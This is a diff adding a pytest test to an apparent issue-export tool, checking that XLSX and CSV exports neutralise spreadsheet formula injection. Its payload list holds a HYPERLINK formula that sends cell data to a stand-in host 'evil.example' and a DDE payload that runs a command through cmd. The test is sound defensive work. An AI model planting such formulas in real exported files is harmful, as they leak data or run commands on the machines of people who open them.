@@ -150,3 +150,46 @@ def test_map_links_use_gcj02_but_the_ledger_keeps_wgs84() -> None:
     assert query["coordinate"] == ["gaode"]
     assert 1e-4 < abs(gcj_lat - lat) + abs(gcj_lon - lon) < 1e-2
     assert amap_link(46.8427, -91.9940, "x").count("-91.9940000") == 1  # outside China: unchanged
+
+
+#: OWASP's CSV-injection starts (=, +, -, @, tab, CR), each as a hostile payload.
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_exports_carry_no_formulas(tmp_path, issues, payload) -> None:
+    from dataclasses import replace
+
+    from openpyxl import load_workbook
+
+    hostile = [
+        replace(
+            issues[0],
+            description=payload,
+            responsible_unit=payload,
+            photos=(payload + ".JPG", "/flights/B.JPG"),  # a relative frame path
+        )
+    ]
+    xlsx = export_issues(hostile, "xlsx", tmp_path / "h.xlsx")
+    row = next(load_workbook(xlsx).active.iter_rows(min_row=4))
+    with export_issues(hostile, "csv", tmp_path / "h.csv").open(newline="") as f:
+        csv_row = list(csv.reader(f))[1]
+    for header in ("问题描述", "责任单位", "证据照片"):
+        i = HEADERS.index(header)
+        assert row[i].data_type == "s"  # a string cell, never a formula
+        assert row[i].value.startswith("'" + payload.replace("\r", "\n"))  # XML reads CR as LF
+        assert csv_row[i].startswith("'" + payload)
+    for header in ("序号", "面积（平方米）", "经度（WGS-84）", "纬度（WGS-84）", "证据照片数"):
+        i = HEADERS.index(header)
+        assert row[i].data_type == "n"
+        assert not csv_row[i].startswith("'")
+    lon = HEADERS.index("经度（WGS-84）")
+    assert row[lon].value == pytest.approx(issues[0].lon) and issues[0].lon < 0  # stays a number
+    assert float(csv_row[lon]) == pytest.approx(issues[0].lon, abs=1e-7)
